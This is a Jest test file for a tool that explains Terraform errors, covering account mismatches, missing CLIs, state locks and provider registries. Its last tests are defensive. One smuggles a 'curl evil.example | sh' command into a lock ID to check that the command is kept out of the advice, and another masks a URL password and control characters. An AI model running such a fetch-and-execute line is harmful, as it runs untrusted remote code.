import { mkdirSync, mkdtempSync, rmSync, writeFileSync } from "node:fs";
import { tmpdir } from "node:os";
import { join } from "node:path";
import { SynthesizedStack } from "../../lib/synth/output/synthesized-stack";
import { explained } from "../../lib/terraform/diagnostics";

let directory: string;
const stackOf = () => new SynthesizedStack("targets-shop", directory, ["argocd"]);
const adviceOn = (said: string) => explained(said, stackOf()).split("→ ")[1];

beforeAll(() => {
  directory = join(mkdtempSync(join(tmpdir(), "diagnostics-")), "targets-shop");
  mkdirSync(directory);
  const content = {
    provider: { aws: [{ alias: "shop_us-east-1", allowed_account_ids: ["444455556666"] }] },
    terraform: { backend: { s3: { allowed_account_ids: ["111122223333"] } } },
  };
  writeFileSync(join(directory, "cdk.tf.json"), JSON.stringify(content));
});

afterAll(() => rmSync(join(directory, ".."), { recursive: true }));

describe("what Terraform says, explained", () => {
  it("is what it said, without its frame", () => {
    expect(explained("╷\n│ Error: no\n│ \n│   with x,\n╵\n", stackOf())).toBe("Error: no\n\n  with x,");
  });

  it("names the account that was expected, of a provider and of the state", () => {
    const provider = `│ Error: AWS account ID not allowed: 111122223333
│
│   with provider["registry.terraform.io/hashicorp/aws"].shop_us-east-1,`;
    expect(adviceOn(provider)).toBe(
      "the credentials belong to account 111122223333, expected 444455556666. Use other credentials, or set the account's deployRole or profile in the fleet file",
    );
    expect(adviceOn("Error: AWS account ID not allowed: 444455556666")).toMatch(/444455556666, expected 111122223333/);
  });

  it("names what left a stack before its resources did", () => {
    const said = `│ Error: Provider configuration not present
│
│ To work with aws_iam_role.orders_role its original provider configuration at
│ provider["registry.terraform.io/hashicorp/aws"].shop_us-east-1 is required,
│ but it has been removed.`;
    expect(adviceOn(said)).toBe(
      'the state still has resources of shop_us-east-1 (account_region), which is no longer part of the stack. Add that account and region to the fleet file again, without targets, and apply. If only the account\'s `stack` changed, move the state (docs/operations.md, "Grouping accounts into one stack")',
    );
  });

  it("names the way out of a missing OIDC provider", () => {
    const said = "Error: finding IAM OIDC Provider by url\n(https://oidc.eks.eu-west-1.amazonaws.com/id/A): not found";
    expect(adviceOn(said)).toBe(
      "the account of the Argo CD cluster has no IAM OIDC provider for https://oidc.eks.eu-west-1.amazonaws.com/id/A. Set argocd.oidcProvider to create, or argocd.identity to pod-identity",
    );
  });

  it.each([
    'Error: Get "https://a/api": getting credentials: exec: executable aws not found\n\nIt looks like you are trying to use',
    'Error: exec: "aws": executable file not found in $PATH',
    "Error: fork/exec /opt/aws-cli/aws: no such file or directory",
  ])("names the AWS CLI that is missing: %s", (said) => {
    expect(adviceOn(said)).toMatch(
      /^the Kubernetes provider runs the AWS CLI .* install the AWS CLI version 2, and put aws on/,
    );
  });

  it.each(["/bin/sh: 1: node: not found", "sh: line 1: node: command not found"])("names Node.js: %s", (said) => {
    expect(adviceOn(`Error: local-exec provisioner error\n\n${said}`)).toMatch(
      /^Terraform runs node to write .* Install Node/,
    );
  });

  it("names the owner of a lock, and how to release it", () => {
    const said = `│ Error: Error acquiring the state lock
│ Lock Info:
│   ID:        8f5c
│   Path:      acme-tfstate/targets-shop.tfstate
│   Operation: OperationTypeApply
│   Who:       alice@laptop
│   Created:   2026-11-24 09:00:00 +0000 UTC
│   Info:      `;
    expect(adviceOn(said)).toBe(
      `alice@laptop has held the lock since 2026-11-24 09:00:00 +0000 UTC (OperationTypeApply). Wait until that run ends. If that run was killed: terraform -chdir=${directory} force-unlock 8f5c`,
    );
  });

  it("says what a stale plan and a missing state need", () => {
    expect(adviceOn("Error: Saved plan is stale")).toMatch(/nothing was applied\. Run plan again$/);
    expect(adviceOn("Error: Unable to find remote state")).toBe(
      "a dependency of this stack is not applied yet: apply argocd first",
    );
  });

  it.each([
    ["terraform.io", "Terraform", "OpenTofu"],
    ["opentofu.org", "OpenTofu", "Terraform"],
  ])("says which product wrote a state with providers of registry.%s", (registry, last, other) => {
    expect(adviceOn(`- unavailable provider\n"registry.${registry}/hashicorp/aws"`)).toBe(
      `${last} wrote this state last, and this command cannot read a state of the other product: run it with ${last}, or apply a change with ${other} first`,
    );
  });
});

describe("what Terraform says that is not its own", () => {
  it("holds no credential of a URL, no color, and no control character", () => {
    const said =
      "\u001b[31mError: proxyconnect https://alice:s3cr@proxy:3128\u001b[0m\n\u001b]0;title\u0007\tand \u202ereversed";
    expect(explained(said, stackOf())).toBe(
      "Error: proxyconnect https://***@proxy:3128\n\\u001b]0;title\\u0007  and \\u202ereversed",
    );
  });

  it("is no part of a command", () => {
    const said = "Error acquiring the state lock\n  ID: 8f5c; curl evil.example | sh\n  Who: alice";
    expect(adviceOn(said)).toMatch(/force-unlock LOCK_ID$/);
  });
});
